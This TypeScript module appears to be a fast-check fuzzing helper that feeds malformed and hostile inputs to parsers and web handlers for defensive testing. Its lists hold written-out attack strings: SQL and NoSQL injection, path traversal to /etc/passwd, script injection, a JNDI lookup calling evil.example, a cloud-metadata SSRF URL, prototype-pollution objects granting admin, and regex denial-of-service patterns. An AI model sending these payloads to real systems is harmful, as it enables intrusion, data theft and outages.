import fc from 'fast-check';

/** Texts that have broken parsers, databases and pages before. */
const nastyTexts = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0001\u001b[31m',
  '\r\nx-injected: 1',
  '\u202Egnp.exe',
  '\u2066\u2067',
  '\uD800',
  'a\uDC00b',
  '\uFEFF',
  '\uFFFF',
  '＇',
  'ß'.repeat(60),
  'e' + '\u0301'.repeat(200),
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '$where',
  '{"$gt":""}',
  "' OR 1=1 --",
  '../../../../etc/passwd',
  '..%2f..%2f',
  '%00',
  '%ZZ',
  '%c0%ae%c0%ae/',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  '//evil.example/a.png',
  'http://169.254.169.254/latest/meta-data',
  '\u0024{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '(a+)+$',
  '^(.*)*$',
  '\\',
  '-0',
  '1e999',
  '0x10',
  'NaN',
  '9007199254740993',
  'true',
  'null',
  'undefined',
  'x'.repeat(10_000),
  '000000000000000000000000',
  'ffffffffffffffffffffffff',
  'FFFFFFFFFFFFFFFFFFFFFFFF',
  'pi_x',
  'pi_000000000000000000000000',
] as const;

export const nastyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...nastyTexts) },
  fc.string({ unit: 'binary', maxLength: 30 }),
);

const nastyNumber = fc.oneof(
  fc.constantFrom(0, -1, 0.001, 1.005, 1e-9, 1e15, 2 ** 31, 2 ** 53, -(2 ** 53), 1e308, Number.MIN_VALUE),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

const operators = fc.constantFrom<unknown>(
  { $gt: '' },
  { $ne: null },
  { $where: 'sleep(5000)' },
  { $regex: '(a+)+$' },
  [{ $gt: '' }],
  { toString: 1, valueOf: 1 },
  { length: 1e9 },
  JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}'),
);

export const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  nastyText,
  nastyNumber,
  operators,
  fc.constantFrom<unknown>(null, true, [], {}, [[]], [null]),
);

const isRecord = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

interface Spoiling {
  readonly how: 'replace' | 'drop' | 'wrap' | 'add' | 'textual';
  /** Which of the keys; taken modulo how many there are. */
  readonly at: number;
  readonly key: string;
  readonly value: unknown;
}

const spoiling: fc.Arbitrary<Spoiling> = fc.record({
  how: fc.constantFrom('replace', 'replace', 'replace', 'drop', 'wrap', 'add', 'textual'),
  at: fc.nat(50),
  key: fc.constantFrom('__proto__', 'constructor', 'role', '_id', '$set', 'state', 'a.b', '', '\u0000'),
  value: nastyValue,
});

const spoil = (value: unknown, { how, at, key, value: other }: Spoiling): unknown => {
  if (!isRecord(value)) return how === 'wrap' ? [value] : other;
  const keys = Object.keys(value);
  const chosen = keys[at % Math.max(1, keys.length)];
  if (how === 'add' || chosen === undefined)
    return Object.fromEntries([...Object.entries(value), [key, other]]);
  if (how === 'drop') return Object.fromEntries(Object.entries(value).filter(([name]) => name !== chosen));
  const old = value[chosen];
  if (how === 'wrap') return { ...value, [chosen]: [old] };
  if (how === 'textual')
    return { ...value, [chosen]: typeof old === 'string' ? Number(old) : JSON.stringify(old) };
  return { ...value, [chosen]: isRecord(old) ? spoil(old, { how, at: at + 1, key, value: other }) : other };
};

/** A value that would fit but for one or two places. */
export const nearly = (valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> =>
  fc
    .tuple(valid, fc.array(spoiling, { minLength: 1, maxLength: 2 }))
    .map(([value, spoilings]) => spoilings.reduce(spoil, value));

const utf8 = (text: string): Buffer => Buffer.from(text);

/** Most of what a JSON body may have, in one direction: depth, length, keys. */
const extremes = [
  '['.repeat(50_000) + ']'.repeat(50_000),
  '{"a":'.repeat(15_000) + '1' + '}'.repeat(15_000),
  '['.repeat(90_000),
  `{${Array.from({ length: 9_000 }, (_, n) => `"k${n}":1`).join()}}`,
  `[${'1,'.repeat(40_000)}1]`,
  `"${'x'.repeat(100_000)}"`,
  `{"name":"${'\\u0000'.repeat(16_000)}"}`,
  ' '.repeat(102_000),
  `{"a":${'9'.repeat(100_000)}}`,
  `{"x":"${'x'.repeat(103_000)}"}`,
  `{"x":"${'x'.repeat(300_000)}"}`,
];

const texts = [
  '',
  '{',
  '{"a":1,}',
  "{'a':1}",
  'null',
  '"text"',
  '42',
  '-',
  '[]',
  '[{}]',
  'NaN',
  '{"a":1}{"a":2}',
  '{"price":1,"price":2,"email":"a@example.com","email":"b@example.com"}',
  '{"__proto__":{"role":"admin"}}',
  '{"constructor":{"prototype":{"role":"admin"}}}',
  '\uFEFF{"a":1}',
  '{"a":1e400}',
  '<?xml version="1.0"?><a/>',
  'a=1&b=2',
];

export const rawBody: fc.Arbitrary<Buffer> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...texts).map(utf8) },
  { weight: 1, arbitrary: fc.constantFrom(...extremes).map(utf8) },
  { weight: 2, arbitrary: fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)) },
  fc.constant(Buffer.concat([utf8('{"name":"'), Buffer.from([0xff, 0xfe, 0xc0, 0x80]), utf8('"}')])),
  fc.constant(Buffer.from('{"name":"a"}', 'utf16le')),
  fc.constant(Buffer.from([0x1f, 0x8b, 0x08, 0, 0, 0, 0])),
);
